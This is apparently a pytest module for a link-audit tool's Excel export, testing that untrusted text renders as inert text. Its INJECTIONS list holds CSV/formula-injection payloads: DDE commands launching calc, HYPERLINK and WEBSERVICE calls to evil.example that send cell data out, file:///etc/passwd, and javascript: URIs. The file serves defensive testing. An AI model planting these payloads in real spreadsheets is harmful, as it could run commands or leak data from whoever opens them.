"""coverage.xlsx: values of the right kind, text that stays text, and the same in LibreOffice as in openpyxl."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import openpyxl
import pytest
from lxml import etree
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from linkaudit.coverage import cover
from linkaudit.model import (
    RULINGS,
    Activity,
    Check,
    Citation,
    Coverage,
    Document,
    Extraction,
    History,
    Kept,
    Link,
    Metadata,
    Ruling,
    Snapshot,
    Verdict,
)
from linkaudit.render.evidence import parts_of, visible, web_address
from linkaudit.render.words import LANGUAGES, Words, load
from linkaudit.render.xlsx import CELL, render
from linkaudit.rules import RULES

NOW = datetime(2026, 11, 22, 1, 2, 3, tzinfo=UTC)
SHEETS = ("summary", "coverage", "links", "findings")
TABLES = SHEETS[1:]
SOFFICE = shutil.which("soffice")

# What would do something in a spreadsheet, were it more than text.
INJECTIONS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    "={1+1}",
    "{=1+1}",
    "{=SUM(A1:A9)}",
    "=",
    "==1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n@SUM(1)",
    "\x0b=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00ad=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    "'=1+1",
    '"=1+1"',
    "\"quotes\" and 'more' «of» “them”",
    "%0A=1+1",
    "|calc",
    ";=1+1",
    ",=1+1",
    "mailto:someone@example.org",
    "file:///etc/passwd",
    "file://evil.example/share",
    "\\\\evil.example\\share",
    "internal:Summary!A1",
    "internal:'Links'!A1",
    "external:c:\\temp\\x.xlsx#Sheet1!A1",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "ftp://evil.example/x",
    "https://evil.example/ and words",
    "http://",
    "https://[",
    "#REF!",
    "#Summary!A1",
    "$A$1",
    "TRUE",
    "1e308",
    "00012",
    "2024-12-25",
    "12/25/2024",
    "3 000 000",
    "\x1b]0;title\x07",
    "\x00\x01\x08\x1f\x7f\x85",
    "\u202etxet desrever\u202c",
    "\u2066isolate\u2069 \u200e\u200f\u061c",
    "half \ud83d of a pair",
    "\udc00\ud800",
    "\ufffe and \uffff are no characters",
    "_x0041_",
    "_x000D_ _xD83D_ _x003D_1+1",
    "_X0041_ _x41_",
    "👩‍💻 🎬 🇰🇿 Қазақ тілі ә ғ қ ң ө ұ ү һ і",
    "]]><evil/>&amp;&#61;1+1",
    "<f>1+1</f>",
    "long " * 8_000,
    "=" + "A" * 40_000,
    "𝔘" * 10_000,
    "a\u0301\u0302\u0303 zalgo",
    "​\u2028line\u2029paragraph",
    "\ufff9anchor\ufffa\ufffb \U000e0041",
]
assert len(INJECTIONS) == len(set(INJECTIONS)) >= 50
# Addresses that are http(s) and must come back whole, as a hyperlink or as text.
ADDRESSES = [
    "https://example.org/a?b=c&d=e#f",
    "HTTPS://EXAMPLE.ORG/",
    "http://example.org/%D2%9B%20%23",
    'https://example.org/"><script>',
    "https://example.org/a b",
    "https://example.org/[x]{y}|z^`",
    "https://example.org/#internal:Summary!A1",
    "https://example.org/'!A1",
    "https://example.org/қазақ",
    "https://example.org/\u202egpj",
    "https://user:pass@example.org/",
    "https://example.org/" + "a" * 2_059,
    "https://example.org/" + "a" * 2_060,
    "https://example.org/" + '"' * 1_500,
    "https://example.org/" + "a" * 1_000 + "#" + "b" * 1_000,
    "https://example.org/" + "a" * 40_000,
]


def workbook(rendered: bytes) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(rendered))


def sheet(book: Workbook, name: str, words: Words) -> Worksheet:
    found: Worksheet = book[words[f"sheet.{name}"]]
    return found


def unescaped(text: str) -> str:
    """A text of the file with the escapes of ECMA-376 (22.9.2.19, ST_Xstring) undone."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda escape: chr(int(escape[1], 16)), text)


def told(value: object) -> object:
    """What openpyxl says of a cell: it undoes the escape of the underscore and leaves the others, in any case."""
    return (
        re.sub("_xfff([ef])_", lambda escape: chr(int(f"fff{escape[1]}", 16)), value, flags=re.IGNORECASE)
        if (isinstance(value, str))
        else value
    )


def column(table: Worksheet, words: Words, name: str) -> list[Any]:
    heads = [cell.value for cell in table[1]]
    at = heads.index(words[f"column.{name}"])
    return [told(row[at].value) for row in table.iter_rows(min_row=2)]


def expected(text: str | None) -> str | None:
    """What a cell must hold of a text; an empty cell holds nothing. Excel counts UTF-16 units."""
    units = visible(text or "").encode("utf-16-le")
    if len(units) > 2 * CELL:
        return units[: 2 * (CELL - 1)].decode("utf-16-le", "ignore") + "…"
    return visible(text or "") or None


def injected(organisation: str = INJECTIONS[0]) -> Coverage:
    """One activity a string, which stands wherever a stranger's text can."""
    activities, checks, rulings = [], {}, {}
    for n, text in enumerate(INJECTIONS):
        link = Link("web", "page", f"p{n}", text)
        cited = Citation(link, text, text, "table", 1, n)
        told = Metadata(title=text, author=text, author_id=text, view_count=n)
        verdict = Verdict("ok", "page", 200, text, told)
        activities.append(Activity(f"1.{n}", text, text, None, (), (cited,)))
        checks[link.key] = Check(link, verdict, NOW, kept=Kept(snapshot=Snapshot(text, NOW)), entry="ab" * 32)
        rulings[link.key] = (Ruling(link.key, "seen", text, NOW, text),)
    document = Document(Path(organisation.replace("/", "_").replace("\x00", "_")[:99]), "ab" * 32, "pdf", ())
    extraction = Extraction(document, "kk", organisation, organisation, None, None, tuple(activities))
    return cover(extraction, checks, "offline", NOW, history=History(rulings=rulings))


@pytest.fixture(scope="module")
def traps() -> bytes:
    return render(injected(), load("en"))


@pytest.fixture(scope="module")
def rendered(hostile: Coverage) -> dict[str, bytes]:
    return {lang: render(hostile, load(lang)) for lang in LANGUAGES}


@pytest.fixture(scope="module", params=LANGUAGES)
def words(request: pytest.FixtureRequest) -> Words:
    return load(request.param)


@pytest.fixture
def book(words: Words, rendered: dict[str, bytes]) -> Workbook:
    return workbook(rendered[words.lang])


# --- the workbook ----------------------------------------------------------------------------------------------


def test_it_has_four_sheets(book: Workbook, words: Words) -> None:
    assert book.sheetnames == [words[f"sheet.{name}"] for name in SHEETS]


@pytest.mark.parametrize("name", TABLES)
def test_every_table_has_a_frozen_head_and_filters(name: str, book: Workbook, words: Words) -> None:
    table = sheet(book, name, words)
    assert table.freeze_panes == "B2"
    assert table.auto_filter.ref == table.dimensions
    assert table.print_title_rows == "$1:$1"
    assert all(cell.value and cell.font.bold for cell in table[1])


def test_each_language_has_its_own_heads(rendered: dict[str, bytes]) -> None:
    books = {lang: workbook(each) for lang, each in rendered.items()}
    for name in TABLES:
        heads = [tuple(cell.value for cell in sheet(books[lang], name, load(lang))[1]) for lang in LANGUAGES]
        assert len({len(each) for each in heads}) == 1
        assert len(set(heads)) == len(LANGUAGES)
        assert all(len(set(each)) == len(each) for each in heads)
    labels = [tuple(row[0] for row in sheet(books[lang], "summary", load(lang)).values) for lang in LANGUAGES]
    assert len(set(labels)) == len(LANGUAGES)


def test_the_same_coverage_gives_the_same_bytes(hostile: Coverage, rendered: dict[str, bytes]) -> None:
    assert {lang: render(hostile, load(lang)) for lang in LANGUAGES} == rendered


def test_it_names_neither_the_machine_nor_the_moment_of_its_making(rendered: dict[str, bytes]) -> None:
    properties = workbook(rendered["en"]).properties
    assert not properties.creator
    assert properties.created == datetime(2000, 1, 1)


def test_a_document_that_says_nothing_still_gives_a_workbook(empty: Coverage, words: Words) -> None:
    book = workbook(render(empty, words))
    assert [sheet(book, name, words).max_row for name in TABLES] == [1, 1, 1]
    assert words["ui.unknown"] in [row[1] for row in sheet(book, "summary", words).values]


# --- values ----------------------------------------------------------------------------------------------------


def test_every_activity_has_its_row(book: Workbook, words: Words, hostile: Coverage) -> None:
    table = sheet(book, "coverage", words)
    assert column(table, words, "activity") == [row.activity.id for row in hostile.rows]
    assert column(table, words, "title") == [expected(row.activity.title) for row in hostile.rows]
    assert column(table, words, "coverage") == [words[f"coverage.{row.coverage}"] for row in hostile.rows]
    assert column(table, words, "why") == [words.why(row) for row in hostile.rows]
    for name in ("required", "cited", "unique", "available", "gone", "restricted", "unverified", "in_period"):
        found = column(table, words, name)
        assert found == [getattr(row, name) for row in hostile.rows]
        assert all(type(number) is int for number in found)
    assert column(table, words, "seen") == [dict(row.counted)["seen"] for row in hostile.rows]


def test_every_pair_has_its_row(book: Workbook, words: Words, hostile: Coverage) -> None:
    table = sheet(book, "links", words)
    pairs = [(part.row and part.row.activity.id, e) for part in parts_of(hostile) for e in part.evidence]
    assert column(table, words, "activity") == [activity for activity, _ in pairs]
    assert column(table, words, "key") == [e.row.link.key for _, e in pairs]
    assert column(table, words, "status") == [words[f"status.{e.row.verdict.status}"] for _, e in pairs]
    assert column(table, words, "reason") == [words[f"reason.{e.row.verdict.reason}"] for _, e in pairs]
    assert column(table, words, "views") == [e.row.verdict.metadata.view_count for _, e in pairs]
    assert column(table, words, "proof") == [e.row.proof for _, e in pairs]
    for name, moments in (
        ("published_at", [e.row.published_at for _, e in pairs]),
        ("checked_at", [e.row.checked_at for _, e in pairs]),
    ):
        assert column(table, words, name) == [moment and moment.replace(tzinfo=None) for moment in moments]
        assert any(moments)


def test_every_finding_has_its_row(book: Workbook, words: Words, hostile: Coverage) -> None:
    table = sheet(book, "findings", words)
    rows = zip(*(column(table, words, name) for name in ("code", "message", "advice")), strict=True)
    expect = [(f.code, expected(words.finding(f)), words[f"advice.{f.code}"]) for f in hostile.findings]
    assert sorted(rows) == sorted(expect)
    assert set(column(table, words, "code")) == {rule.code for rule in RULES}


def test_the_summary_tells_the_documents_facts(book: Workbook, words: Words, hostile: Coverage) -> None:
    facts = {row[0].value: row[1].value for row in sheet(book, "summary", words).iter_rows() if row[0].value}
    assert facts[words["ui.document"]] == hostile.extraction.title
    assert facts[words["ui.organisation"]] == hostile.extraction.organisation
    assert facts[words["ui.dated"]] == datetime(2024, 10, 29)
    assert facts[words["ui.made"]] == datetime(2026, 11, 22, 1, 2, 3)
    assert facts[words["ui.activities"]] == len(hostile.rows)
    assert facts[words["ui.findings"]] == len(hostile.findings)


def test_days_and_times_are_dates_that_a_spreadsheet_can_count_with(book: Workbook, words: Words) -> None:
    table = sheet(book, "links", words)
    dates = [cell for row in table.iter_rows() for cell in row if cell.is_date]
    assert dates
    assert all(isinstance(cell.value, datetime) and cell.data_type == "d" for cell in dates)
    assert {cell.number_format for cell in dates} == {"yyyy-mm-dd hh:mm"}


def test_every_address_of_a_link_can_be_opened(book: Workbook, words: Words, hostile: Coverage) -> None:
    table = sheet(book, "links", words)
    at = [cell.value for cell in table[1]].index(words["column.url"])
    rows = [e.row for part in parts_of(hostile) for e in part.evidence]
    for row, cells in zip(rows, table.iter_rows(min_row=2), strict=True):
        url = row.link.canonical_url
        assert cells[at].value == url
        assert (cells[at].hyperlink and cells[at].hyperlink.target) == web_address(url)


def test_a_ruling_is_chosen_from_a_list(book: Workbook, words: Words) -> None:
    table = sheet(book, "links", words)
    (choice,) = table.data_validations.dataValidation
    letter = next(cell.column_letter for cell in table[1] if cell.value == words["column.ruling"])
    assert choice.type == "list"
    assert choice.formula1 == '"' + ",".join(words[f"ruling.{word}"] for word in RULINGS) + '"'
    assert str(choice.sqref) == f"{letter}2:{letter}{table.max_row}"
    assert {cell.value for cell in table[letter][1:]} - {None} <= {words[f"ruling.{word}"] for word in RULINGS}


def test_what_people_say_stands_beside_the_verdict(book: Workbook, words: Words, hostile: Coverage) -> None:
    table = sheet(book, "links", words)
    said = [e.row.ruling for part in parts_of(hostile) for e in part.evidence]
    assert column(table, words, "ruling") == [each and words[f"ruling.{each.word}"] for each in said]
    assert column(table, words, "by") == [each and expected(each.by) for each in said]
    assert column(table, words, "note") == [each and expected(each.note) for each in said]


def test_every_word_of_every_person_is_told(book: Workbook, words: Words, hostile: Coverage) -> None:
    cells = [str(value) for row in sheet(book, "links", words).values for value in row if value]
    for ruling in (ruling for row in hostile.links for ruling in row.rulings):
        assert any(visible(ruling.note) in cell for cell in cells), ruling


def test_more_links_than_a_sheet_may_have_stay_as_text(small: Coverage, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("linkaudit.render.xlsx.LINKS", 1)
    book = workbook(render(small, load("en")))
    cells = [cell for row in sheet(book, "links", load("en")).iter_rows() for cell in row]
    assert len([cell for cell in cells if cell.hyperlink]) == 1
    assert column(sheet(book, "links", load("en")), load("en"), "url") == [r.link.canonical_url for r in small.links]


# --- what strangers write --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["item", "author", "cited_as", "note", "by", "url", "resolved_to", "snapshot"])
def test_an_injection_in_a_link_comes_back_as_text(name: str, traps: bytes) -> None:
    found = column(sheet(workbook(traps), "links", load("en")), load("en"), name)
    # Half a character in metadata is replaced where it is read (see model.Metadata).
    texts = [Metadata(title=text).title if name in ("item", "author") else text for text in INJECTIONS]
    assert found == [expected(text) for text in texts]


def test_the_file_itself_says_the_same(traps: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(traps)) as parts:
        texts = etree.fromstring(parts.read("xl/sharedStrings.xml")).xpath("//*[local-name()='t']/text()")
    assert {unescaped(text) for text in texts} >= {expected(text) for text in INJECTIONS} - {None}


def test_an_injection_in_a_title_comes_back_as_text(traps: bytes) -> None:
    found = column(sheet(workbook(traps), "coverage", load("en")), load("en"), "title")
    assert found == [expected(text) for text in INJECTIONS]


@pytest.mark.parametrize("text", INJECTIONS, ids=range(len(INJECTIONS)))
def test_an_injection_in_a_documents_own_facts_comes_back_as_text(text: str, small: Coverage) -> None:
    document = replace(small.extraction.document, path=Path(re.sub("[/\x00]", "_", text)))
    extraction = replace(small.extraction, title=text, organisation=text, document=document)
    book = workbook(render(replace(small, extraction=extraction), load("en")))
    facts = {row[0].value: told(row[1].value) for row in sheet(book, "summary", load("en")).iter_rows()}
    assert facts["Document"] == facts["Organisation"] == expected(text)
    assert facts["File"] == expected(document.path.name)


def test_an_injection_in_a_finding_comes_back_as_text(small: Coverage) -> None:
    texts = [text for text in INJECTIONS if visible(text) and not text.startswith("𝔘")]  # which XlsxWriter cuts
    findings = tuple(
        replace(small.findings[2], facts=(("text", text), ("flaw", "no_id"), ("off", "0"), ("repair", text)))
        for text in texts
    )
    book = workbook(render(replace(small, findings=findings), load("en")))
    found = column(sheet(book, "findings", load("en")), load("en"), "message")
    assert sorted(found) == sorted(expected(load("en").finding(finding)) for finding in findings)


def test_no_cell_calculates_and_nothing_leads_anywhere_but_to_the_web(
    traps: bytes, rendered: dict[str, bytes], small: Coverage
) -> None:
    addresses = render(addressed(small), load("en"))
    for each in (traps, *rendered.values(), addresses):
        with zipfile.ZipFile(io.BytesIO(each)) as parts:
            names = parts.namelist()
            assert [name for name in names if re.search("external|connections|vba|embed|macro|calcChain", name)] == []
            for name in names:
                tree = etree.fromstring(parts.read(name))
                assert tree.xpath("//*[local-name()='f' or local-name()='ddeLink' or local-name()='oleLink']") == []
                for relation in tree.xpath("//*[local-name()='Relationship'][@TargetMode]"):
                    assert relation.get("Type").endswith("/hyperlink")
                    assert web_address(relation.get("Target"))
                assert tree.xpath("//*[local-name()='hyperlink'][not(@*[local-name()='id'])]") == []


def addressed(small: Coverage) -> Coverage:
    """An activity that cites every one of ADDRESSES."""
    links = [Link("web", "page", f"a{n}", url) for n, url in enumerate(ADDRESSES)]
    activity = replace(
        small.rows[0].activity, citations=tuple(Citation(link, "x", None, "table", 1, 1) for link in links)
    )
    extraction = replace(small.extraction, activities=(activity,), unreadable=())
    return cover(extraction, {}, "offline", NOW)


def test_an_address_comes_back_whole_whatever_is_in_it(small: Coverage) -> None:
    table = sheet(workbook(render(addressed(small), load("en"))), "links", load("en"))
    assert column(table, load("en"), "url") == [expected(url) for url in ADDRESSES]
    opened = {cell.value for row in table.iter_rows() for cell in row if cell.hyperlink}
    assert opened >= {ADDRESSES[0], ADDRESSES[2], ADDRESSES[11]}


@pytest.mark.parametrize("text", ["🎬" * 32_767, "🎬" * 20_000, "a" + "🎬" * 16_383, "🎬" * 16_383])
def test_a_cell_holds_no_more_than_excel_counts(text: str, small: Coverage) -> None:
    """Excel counts UTF-16 units; a longer cell makes it call the file damaged."""
    book = workbook(render(replace(small, extraction=replace(small.extraction, organisation=text)), load("en")))
    cell = next(
        row[1].value for row in sheet(book, "summary", load("en")).iter_rows() if row[0].value == "Organisation"
    )
    assert len(cell.encode("utf-16-le")) // 2 <= CELL
    assert text.startswith(cell.removesuffix("…"))


@pytest.mark.parametrize("number", [0, -1, 2**31, 2**53, 10**15])
def test_any_counter_can_be_told(number: int, small: Coverage) -> None:
    row = small.links[0]
    viewed = replace(row, verdict=replace(row.verdict, metadata=replace(row.verdict.metadata, view_count=number)))
    book = workbook(render(replace(small, links=(viewed, *small.links[1:])), load("en")))
    assert column(sheet(book, "links", load("en")), load("en"), "views")[0] == number


@pytest.mark.parametrize("year", [1990, 2024, 2100])
def test_a_day_of_our_time_is_a_date(year: int, small: Coverage) -> None:
    row, moment = small.links[0], datetime(year, 12, 31, 12, tzinfo=UTC)
    dated = replace(row, verdict=replace(row.verdict, metadata=Metadata("A video", published_at=moment)))
    book = workbook(render(replace(small, links=(dated, *small.links[1:])), load("en")))
    cell = column(sheet(book, "links", load("en")), load("en"), "published_at")[0]
    assert cell == moment.replace(tzinfo=None)


# --- another program's eyes ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory: pytest.TempPathFactory, traps: bytes, rendered: dict[str, bytes]) -> dict[str, bytes]:
    """The workbooks as LibreOffice reads them and writes them again."""
    if SOFFICE is None:
        pytest.skip("no LibreOffice on this machine")
    folder = tmp_path_factory.mktemp("office")
    paths = []
    for name, each in {"traps": traps, **rendered}.items():
        paths.append(folder / f"{name}.xlsx")
        paths[-1].write_bytes(each)
    command = [
        SOFFICE, f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore",
        "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", folder / "again", *paths,
    ]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=110)
    return {path.stem: (folder / "again" / path.name).read_bytes() for path in paths}


def cells(book: Workbook) -> dict[str, list[list[object]]]:
    """Every sheet's values, times to the second, without the empty rows and columns that programs add."""

    def plain(value: object) -> object:
        if isinstance(value, datetime):
            return (value + timedelta(milliseconds=500)).replace(microsecond=0)
        return told(value)

    found = {}
    for each in book:
        rows = [[plain(value) for value in row] for row in each.iter_rows(max_col=30, values_only=True)]
        found[each.title] = [row + [None] * (30 - len(row)) for row in rows if any(value is not None for value in row)]
    return found


@pytest.mark.parametrize("name", LANGUAGES)
def test_libreoffice_reads_the_same_values(name: str, elsewhere: dict[str, bytes], rendered: dict[str, bytes]) -> None:
    assert cells(workbook(elsewhere[name])) == cells(workbook(rendered[name]))


def test_libreoffice_reads_every_injection_as_the_same_text(elsewhere: dict[str, bytes], traps: bytes) -> None:
    book = workbook(elsewhere["traps"])
    assert cells(book) == cells(workbook(traps))
    assert [cell for each in book for row in each.iter_rows() for cell in row if cell.data_type == "f"] == []


def test_libreoffice_keeps_filters_links_and_choices(elsewhere: dict[str, bytes], rendered: dict[str, bytes]) -> None:
    for lang in LANGUAGES:
        mine, theirs = workbook(rendered[lang]), workbook(elsewhere[lang])
        for name in TABLES:
            one, other = sheet(mine, name, load(lang)), sheet(theirs, name, load(lang))
            assert other.auto_filter.ref == one.auto_filter.ref
            assert other.print_title_rows == one.print_title_rows
            targets = [
                {
                    cell.coordinate: unquote(cell.hyperlink.target)
                    for row in each.iter_rows()
                    for cell in row
                    if cell.hyperlink
                }
                for each in (one, other)
            ]
            assert targets[0] == targets[1]
        choices = sheet(theirs, "links", load(lang)).data_validations.dataValidation
        assert [choice.type for choice in choices] == ["list"]
